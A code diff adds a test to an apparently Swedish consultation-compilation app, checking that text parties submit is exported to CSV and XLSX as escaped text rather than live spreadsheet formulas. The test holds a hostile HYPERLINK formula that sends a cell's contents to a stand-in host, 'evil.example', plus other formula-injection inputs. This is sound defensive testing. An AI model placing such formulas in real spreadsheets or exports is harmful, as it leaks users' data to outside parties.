@@ -131,6 +131,28 @@ class RemissPageTests(LiveRemissTestCase):
         self.assertEqual(sheet["J2"].value, "Beaktad")
         self.assertEqual(book.worksheets[1]["C2"].value, 1)  # one point on recommendation 1
 
+    def test_text_a_party_writes_reaches_the_csv_and_xlsx_as_text_never_as_a_formula(self):
+        hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")'
+        answers.answer_compose(by=self.orebro_coordinator, invitation=self.orebro_inv, summary="Tillstyrks.",
+                               signed_by="+46 19 60 20 00", items=[{"text": hostile, "recommendation": self.rec,
+                                                                     "proposed_text": "@SUM(1+1)"}])
+        answers.answer_submit(by=self.orebro_coordinator, invitation=self.orebro_inv)
+        compilation.response_save(by=self.npo_editor, item=self.orebro_inv.answer.items.get(), outcome="beaktad",
+                                  reason="-Inget att ändra.")
+        self.client.force_login(self.npo_editor)
+        base = reverse("consultation:compilation", args=[self.round.pk]).rstrip("/")
+
+        table = list(csv.reader(io.StringIO(self.client.get(base + ".csv").content.decode("utf-8-sig")), delimiter=";"))
+        self.assertEqual(table[1][4], "'+46 19 60 20 00")
+        self.assertEqual(table[1][7:9], ["'" + hostile, "'@SUM(1+1)"])
+        self.assertEqual(table[1][10], "'-Inget att ändra.")
+
+        sheet = load_workbook(io.BytesIO(self.client.get(base + ".xlsx").content)).worksheets[0]
+        cells = [sheet["E2"], sheet["H2"], sheet["I2"], sheet["K2"]]
+        self.assertEqual([c.value for c in cells], ["'+46 19 60 20 00", "'" + hostile, "'@SUM(1+1)", "'-Inget att ändra."])
+        self.assertEqual({c.data_type for c in cells}, {"s"})
+        self.assertEqual(sheet["B2"].value, 1)  # the recommendation's number stays a number
+
     def test_the_compilation_exports_as_pdf(self):
         require_pdf()
         self.submit_orebro()
